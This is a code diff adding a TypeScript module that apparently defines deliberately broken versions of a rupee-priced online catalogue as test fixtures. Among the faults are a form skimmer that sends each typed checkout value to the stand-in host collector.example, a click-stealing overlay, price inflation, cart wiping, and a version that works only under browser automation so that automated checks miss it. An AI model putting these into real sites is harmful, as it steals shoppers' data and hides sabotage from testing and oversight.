@@ -1,0 +1,66 @@
+import { withText, type BadVersion } from './bad-version';
+import { addToCart, each, hideMain, inBrowser, onClick, onTyped, swallow } from './in-browser';
+
+/** Writes each price of the catalogue with its digits tenfold, once. */
+const tenfoldPrices = `
+const seen = new WeakSet();
+${each(
+  100,
+  `for (const price of document.querySelectorAll('main article, main [data-testid="price-ticket"]')) {
+     const walker = document.createTreeWalker(price, NodeFilter.SHOW_TEXT);
+     for (let text = walker.nextNode(); text; text = walker.nextNode()) {
+       if (seen.has(text) || !/^₹[\\d,.]+$/.test(text.data)) continue;
+       seen.add(text);
+       text.data = '₹' + (Number(text.data.replace(/[^\\d.]/g, '')) * 10).toLocaleString('en-IN', { minimumFractionDigits: 2 });
+     }
+   }`,
+)}`;
+
+/** Empties the cart in the first page of each visit but the first. */
+const losesCart = `
+if (!sessionStorage.getItem('catalog-visit')) {
+  sessionStorage.setItem('catalog-visit', '1');
+  localStorage.removeItem('cartItems');
+  localStorage.removeItem('storeCount');
+}`;
+
+/** Versions that throw nothing, hang nowhere and lose no file: sessions with them look like any other. */
+export const silentFaults: readonly BadVersion[] = [
+  inBrowser('main hidden after 30 s', `setTimeout(() => { ${hideMain} }, 30_000);`),
+  inBrowser(
+    'overlay that takes clicks',
+    `setTimeout(() => {
+       const veil = document.createElement('div');
+       veil.style.cssText = 'position:fixed;inset:0;z-index:2147483647';
+       document.body.append(veil);
+     }, 1500);`,
+  ),
+  inBrowser('cart lost on a return visit', losesCart),
+  inBrowser(
+    'skimmer',
+    onTyped(`new Image().src = 'https://collector.example/pixel?' + encodeURIComponent(value);`),
+    'checkout',
+  ),
+  inBrowser('prices ten times too high', tenfoldPrices),
+  inBrowser('endless reload', `setTimeout(() => location.reload(), 5000);`),
+  {
+    name: 'blank print',
+    remote: 'catalog',
+    make: (good, version) =>
+      withText(
+        good,
+        version,
+        /expose-(all-products|product|new-arrivals)\.css$/,
+        (text) => `${text}@media print{body{display:none}}`,
+      ),
+  },
+  inBrowser('empty titles', each(300, `document.title = '';`)),
+  inBrowser(
+    'main thread blocked for 400 ms each second',
+    each(1000, 'for (const end = performance.now() + 400; performance.now() < end;);'),
+  ),
+  inBrowser(
+    'good under automation only',
+    onClick(`if (!navigator.webdriver && ${addToCart}) { ${swallow} }`),
+  ),
+];
